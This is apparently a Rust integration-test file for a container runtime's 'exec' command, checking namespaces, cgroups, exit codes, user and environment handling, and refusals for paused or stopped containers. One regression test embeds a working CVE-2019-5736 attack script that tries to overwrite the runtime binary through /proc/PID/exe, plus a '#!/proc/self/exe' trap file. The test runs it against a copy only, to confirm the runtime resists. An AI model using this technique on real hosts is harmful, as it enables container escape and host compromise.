//! `exec`: the process joins the container's namespaces and cgroup, exit
//! statuses, --detach/--pid-file, -e/--cwd/-u, --process, refusals for
//! stopped and paused containers, and a CVE-2019-5736 regression.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};

use crate::common::*;

/// `sleep 1000` (or `script`), created and started.
fn start_container(env: &TestEnv, script: Option<&str>, mutate: impl FnOnce(&mut Value)) {
    let mut spec = env.spec();
    match script {
        Some(s) => set_script(&mut spec, s),
        None => set_args(&mut spec, &["sleep", "1000"]),
    }
    mutate(&mut spec);
    env.create_and_start(&spec);
}

fn exec(env: &TestEnv, args: &[&str]) -> Out {
    let mut all = vec!["exec"];
    all.extend_from_slice(args);
    env.rt(&all)
}

fn ns_link(pid: &str, name: &str) -> String {
    fs::read_link(format!("/proc/{pid}/ns/{name}"))
        .unwrap_or_else(|e| panic!("/proc/{pid}/ns/{name}: {e}"))
        .to_string_lossy()
        .into_owned()
}

#[test]
fn exec_joins_container_namespaces_and_cgroup() {
    let env = test_env!();
    // A tmpfs only the container has, with a file the init writes.
    start_container(
        &env,
        Some("echo secret > /mnt/marker; exec sleep 1000"),
        |s| {
            set(s, "/hostname", json!("it-exec-host"));
            add_mount(
                s,
                json!({"destination": "/mnt", "type": "tmpfs", "source": "tmpfs",
                       "options": ["size=1m"]}),
            );
        },
    );
    let init = env.init_pid();
    assert!(
        wait_until(WAIT_TIMEOUT, || fs::read(format!("/proc/{init}/cmdline"))
            .map(|c| c == b"sleep\x001000\x00")
            .unwrap_or(false)),
        "init never exec'd sleep"
    );
    let out = exec(
        &env,
        &[
            &env.id,
            "sh",
            "-c",
            "hostname; echo \"cmdline=$(tr '\\0' ' ' < /proc/1/cmdline)\"; \
             cat /mnt/marker; grep ' /mnt ' /proc/self/mounts; \
             grep ':memory:' /proc/self/cgroup; \
             echo \"procs=$(ls -d /proc/[0-9]* | wc -l)\"; \
             for n in mnt pid net uts ipc; do echo \"$n=$(readlink /proc/self/ns/$n)\"; done",
        ],
    );
    out.ok();
    let lines = out.lines();
    let has = |l: &str| lines.iter().any(|x| x == l);
    assert!(has("it-exec-host"), "hostname:\n{out}");
    assert!(has("cmdline=sleep 1000"), "/proc/1 is not the init:\n{out}");
    assert!(
        has("secret"),
        "the container's tmpfs is not visible:\n{out}"
    );
    assert!(
        lines.iter().any(|l| l.starts_with("tmpfs /mnt tmpfs")),
        "no /mnt tmpfs in /proc/self/mounts:\n{out}"
    );
    let want_cg = format!(":memory:{}", env.cgroups_path());
    assert!(
        lines.iter().any(|l| l.ends_with(&want_cg)),
        "exec process is not in {want_cg}:\n{out}"
    );
    let procs: usize = lines
        .iter()
        .find_map(|l| l.strip_prefix("procs="))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no procs= line:\n{out}"));
    assert!(procs < 10, "{procs} processes visible:\n{out}");
    let pid = init.to_string();
    for n in ["mnt", "pid", "net", "uts", "ipc"] {
        let want = format!("{n}={}", ns_link(&pid, n));
        assert!(
            has(&want),
            "exec is not in the init's {n} namespace ({want}):\n{out}"
        );
    }
}

#[test]
fn exec_exit_status_propagates() {
    let env = test_env!();
    start_container(&env, None, |_| {});
    let out = exec(&env, &[&env.id, "sh", "-c", "echo hi; exit 7"]);
    assert_eq!(out.code(), Some(7), "{out}");
    assert_eq!(out.stdout, "hi\n", "{out}");
    let out = exec(&env, &[&env.id, "true"]);
    assert_eq!(out.code(), Some(0), "{out}");
    // The container is unaffected.
    assert_eq!(env.status(), "running");
}

#[test]
fn exec_detach_pid_file() {
    let env = test_env!();
    start_container(&env, None, |_| {});
    let pid = env.exec_detached(&["sleep", "1000"]);
    assert_ne!(pid, env.init_pid(), "the pid file names init");
    let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
    assert_eq!(
        cmdline, b"sleep\x001000\x00",
        "pid {pid} is not the exec'd sleep"
    );
    for c in ["memory", "pids", "freezer"] {
        let procs = fs::read_to_string(format!(
            "/sys/fs/cgroup/{c}{}/cgroup.procs",
            env.cgroups_path()
        ))
        .unwrap();
        assert!(
            procs.lines().any(|l| l.trim() == pid.to_string()),
            "exec'd pid {pid} not in the {c} cgroup: {procs:?}"
        );
    }
    // The container's end takes the detached process with it. It was
    // reparented to the test process (a subreaper), which must reap it
    // before the pid namespace's init can finish exiting.
    env.rt(&["kill", &env.id, "KILL"]).ok();
    reap_if_child(pid, WAIT_TIMEOUT);
    assert!(
        wait_until(WAIT_TIMEOUT, || !Path::new(&format!("/proc/{pid}"))
            .exists()),
        "detached exec process {pid} survived its container"
    );
    env.wait_for_status("stopped");
    assert_eq!(env.wait_init(), Exit::Signal(libc::SIGKILL));
    env.rt(&["delete", &env.id]).ok();
    env.assert_clean();
}

#[test]
fn exec_env_cwd_user() {
    let env = test_env!();
    start_container(&env, None, |_| {});
    let out = exec(
        &env,
        &[
            "-e",
            "FOO=bar baz",
            "-e",
            "TERM=dumb",
            "--cwd",
            "/tmp",
            "-u",
            "1000:1000",
            &env.id,
            "sh",
            "-c",
            "echo \"FOO=$FOO\"; echo \"TERM=$TERM\"; pwd; id; id -G; grep -E '^(Uid|Gid|Groups):' /proc/self/status",
        ],
    );
    out.ok();
    let lines = out.lines();
    let has = |l: &str| lines.iter().any(|x| x == l);
    assert!(has("FOO=bar baz"), "{out}");
    // -e overrides the config's TERM=xterm.
    assert!(has("TERM=dumb"), "{out}");
    assert!(has("/tmp"), "{out}");
    assert!(
        lines.iter().any(|l| l.starts_with("uid=1000 gid=1000")),
        "{out}"
    );
    let field = |k: &str| {
        lines
            .iter()
            .find_map(|l| l.strip_prefix(k))
            .map(|v| v.split_whitespace().collect::<Vec<_>>().join(" "))
            .unwrap_or_else(|| panic!("no {k}:\n{out}"))
    };
    assert_eq!(field("Uid:"), "1000 1000 1000 1000", "{out}");
    assert_eq!(field("Gid:"), "1000 1000 1000 1000", "{out}");
    // No supplementary group of the runtime (root's 0) is kept.
    let groups = field("Groups:");
    assert!(
        groups.split_whitespace().all(|g| g == "1000"),
        "supplementary groups {groups:?}:\n{out}"
    );
}

#[test]
fn exec_process_json() {
    let env = test_env!();
    start_container(&env, None, |_| {});
    let process = json!({
        "terminal": false,
        "user": {"uid": 1000, "gid": 1000, "additionalGids": [5]},
        "args": ["sh", "-c", "echo \"FOO=$FOO\"; pwd; id -u; id -g; id -G; exit 3"],
        "env": [
            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            "FOO=from-process-json",
            env.token_env(),
        ],
        "cwd": "/tmp",
    });
    let file = env.dir.join("process.json");
    fs::write(&file, serde_json::to_string_pretty(&process).unwrap()).unwrap();
    let out = exec(&env, &["--process", file.to_str().unwrap(), &env.id]);
    assert_eq!(out.code(), Some(3), "{out}");
    let lines = out.lines();
    assert_eq!(lines[0], "FOO=from-process-json", "{out}");
    assert_eq!(lines[1], "/tmp", "{out}");
    assert_eq!(lines[2], "1000", "{out}");
    assert_eq!(lines[3], "1000", "{out}");
    let mut groups: Vec<&str> = lines[4].split_whitespace().collect();
    groups.sort();
    groups.dedup();
    assert_eq!(groups, vec!["1000", "5"], "{out}");
}

#[test]
fn exec_stopped_container_fails() {
    let env = test_env!();
    start_container(&env, Some("exit 0"), |_| {});
    env.wait_for_status("stopped");
    assert_eq!(env.wait_init(), Exit::Code(0));
    // runc: "cannot exec in a stopped container"
    exec(&env, &[&env.id, "true"])
        .failed()
        .stderr_has_any(&["not running", "stopped"]);
    assert_eq!(env.status(), "stopped");
    env.rt(&["delete", &env.id]).ok();
    env.assert_clean();
}

#[test]
fn exec_paused_container_fails() {
    let env = test_env!();
    start_container(&env, None, |_| {});
    env.rt(&["pause", &env.id]).ok();
    // runc: "cannot exec in a paused container (use --ignore-paused to override)"
    exec(&env, &[&env.id, "true"])
        .failed()
        .stderr_has_any(&["paused"]);
    assert_eq!(env.status(), "paused");
    env.rt(&["resume", &env.id]).ok();
    exec(&env, &[&env.id, "true"]).ok();
}

/// The attacker: polls the pid namespace for processes other than its own
/// shells and `sleep`s; for each one a background subshell keeps trying to
/// open `/proc/PID/exe` (so it also catches a process that becomes
/// dumpable by exec'ing) and, once it holds it, keeps trying to reopen it
/// for writing through `/proc/self/fd` and write into it (ETXTBSY while
/// the binary runs; a vulnerable runtime's binary becomes writable once its
/// processes are gone). Stops when /ctl/stop appears.
const ATTACKER: &str = r#"
hold() {
  p=$1
  while [ ! -e /ctl/stop ] && [ -e /proc/$p ]; do
    if command exec 3< /proc/$p/exe; then
      # The container's own busybox is of no interest (and read-only).
      [ /proc/self/fd/3 -ef /bin/busybox ] && exit 0
      echo "opened exe of $p ($2): $(readlink /proc/self/fd/3)" >> /ctl/log
      while [ ! -e /ctl/stop ]; do
        if { echo PWNED-BY-CONTAINER >&4; } 2>/dev/null 4<> /proc/self/fd/3; then
          echo "WROTE into exe of $p ($2)" >> /ctl/log
          exit 0
        fi
      done
      exit 0
    fi
  done
}
last=1
echo attacker-ready > /ctl/ready
while [ ! -e /ctl/stop ]; do
  # The glob sorts by name, not number: compare with the previous round.
  prev=$last
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" -gt "$prev" ] || continue
    [ "$p" -gt "$last" ] && last=$p
    c=
    read -r c 2>/dev/null < $d/comm
    case "$c" in sh|sleep|readlink|"") continue;; esac
    echo "saw $p ($c)" >> /ctl/log
    hold $p "$c" 2>/dev/null &
  done
done
wait
echo finished > /ctl/finished
exec sleep 1000
"#;

/// CVE-2019-5736: a container process must never get write access to the
/// runtime's binary through `/proc/PID/exe` of a runtime process in the
/// container (the runtime's own process before it execs, or the runtime
/// binary re-executed through a `#!/proc/self/exe` script in the image).
/// The attacks use a copy of the runtime binary (so a vulnerable runtime
/// damages only the copy); its hash and the original's must not change.
#[test]
fn exec_cve_2019_5736_runtime_binary_not_writable() {
    let env = test_env!();
    let original = runtime_bin();
    let original = if original.components().count() > 1 {
        original
    } else {
        // A bare name: resolve through PATH.
        let out = host("sh", &["-c", &format!("command -v {}", original.display())]);
        out.stdout.trim().into()
    };
    let original_hash = sha256_file(&original);
    let copy = env.dir.join("rt-copy");
    fs::copy(&original, &copy).expect("copy the runtime binary");
    let copy_hash = sha256_file(&copy);
    assert_eq!(copy_hash, original_hash);
    let copy_cmd = |args: &[&str]| {
        let mut cmd = std::process::Command::new(&copy);
        cmd.arg("--root")
            .arg(&env.root)
            .args(args)
            .current_dir(&env.dir);
        cmd
    };

    let rootfs = env.copy_rootfs();
    // What a malicious image ships: a "program" whose interpreter is the
    // runtime binary of whoever execs it.
    fs::write(rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    host("chmod", &["755", rootfs.join("evil").to_str().unwrap()]);
    let ctl = env.host_dir("ctl");
    let mut spec = env.spec();
    set(&mut spec, "/root/path", json!(rootfs.to_str().unwrap()));
    set_script(&mut spec, ATTACKER);
    add_mount(&mut spec, bind_mount(&ctl, "/ctl", &["rbind", "rw"]));
    env.create_and_start(&spec);
    assert!(
        wait_until(WAIT_TIMEOUT, || ctl.join("ready").exists()),
        "attacker did not start: {}",
        env.container_stdout()
    );
    let init = env.init_pid();

    let mut outs = Vec::new();
    for _ in 0..5 {
        // The runtime's own process entering the container, and the runtime
        // binary re-executed as the container's process.
        for args in [vec!["true"], vec!["/evil"]] {
            let mut all = vec!["exec", env.id.as_str()];
            all.extend(args.iter().copied());
            outs.push(run_cmd(&mut copy_cmd(&all), CMD_TIMEOUT));
        }
    }
    // `run` of a second container in the attacker's pid namespace, whose
    // process is the runtime binary again.
    let run_id = format!("{}-run", env.id);
    let run_bundle = env.host_dir("run-bundle");
    let mut run_spec = spec.clone();
    set_args(&mut run_spec, &["/evil"]);
    set(
        &mut run_spec,
        "/linux/cgroupsPath",
        json!(format!("{}/run", env.cgroups_path())),
    );
    remove_namespace(&mut run_spec, "pid");
    add_namespace(
        &mut run_spec,
        json!({"type": "pid", "path": format!("/proc/{init}/ns/pid")}),
    );
    fs::write(
        run_bundle.join("config.json"),
        serde_json::to_string_pretty(&run_spec).unwrap(),
    )
    .unwrap();
    env.track_id(&run_id);
    for _ in 0..3 {
        let out = run_cmd(
            &mut copy_cmd(&["run", "--bundle", run_bundle.to_str().unwrap(), &run_id]),
            CMD_TIMEOUT,
        );
        outs.push(out);
        // `run` deletes its container; if it did not, clear it for the
        // next round (the guard deletes it in any case).
        env.rt(&["delete", "--force", &run_id]);
    }

    // No runtime process is left: the attacker's writes would now succeed
    // on a vulnerable runtime. Give its holders a moment to try.
    std::thread::sleep(std::time::Duration::from_secs(1));
    fs::write(ctl.join("stop"), "").unwrap();
    assert!(
        wait_until(WAIT_TIMEOUT, || ctl.join("finished").exists()),
        "attacker did not finish"
    );
    let log = fs::read_to_string(ctl.join("log")).unwrap_or_default();
    let summary: Vec<String> = outs
        .iter()
        .map(|o| format!("{} -> {}", o.what, o.status))
        .collect();
    let report = format!(
        "attacker log:\n{log}\nruntime commands:\n{}",
        summary.join("\n")
    );
    assert_eq!(
        sha256_file(&copy),
        copy_hash,
        "the runtime binary was modified from inside the container\n{report}"
    );
    assert_eq!(sha256_file(&original), original_hash, "{report}");
    assert!(!log.contains("WROTE"), "{report}");
    // No runtime command crashed (killed by a signal).
    for o in &outs {
        assert!(o.status.code().is_some(), "runtime crashed:\n{o}");
    }
    // The attacked container still works.
    assert_eq!(env.status(), "running");
    exec(&env, &[&env.id, "true"]).ok();
}

/// `exec --process` with a process.json that has no `user`: runs as uid 0 (runc accepts it).
#[test]
fn exec_process_json_without_user() {
    let env = test_env!();
    let mut spec = env.spec();
    set_args(&mut spec, &["sleep", "1000"]);
    env.create_and_start(&spec);
    let pj = env.dir.join("process.json");
    std::fs::write(
        &pj,
        serde_json::json!({"args": ["id", "-u"], "cwd": "/", "env": ["PATH=/bin"]}).to_string(),
    )
    .unwrap();
    let out = env.rt(&["exec", "--process", pj.to_str().unwrap(), &env.id]);
    out.ok();
    assert_eq!(out.lines(), ["0"], "{out}");
    env.rt(&["delete", "--force", &env.id]).ok();
}

/// A failed exec exits 255, as runc's does (engines tell it from the process's own status):
/// here, into a paused container.
#[test]
fn failed_exec_exits_255() {
    let env = test_env!();
    let mut spec = env.spec();
    set_args(&mut spec, &["sleep", "1000"]);
    env.create_and_start(&spec);
    env.rt(&["pause", &env.id]).ok();
    let out = env.rt(&["exec", &env.id, "true"]);
    assert_eq!(out.code(), Some(255), "exec into a paused container: {out}");
    env.rt(&["resume", &env.id]).ok();
    env.rt(&["delete", "--force", &env.id]).ok();
}
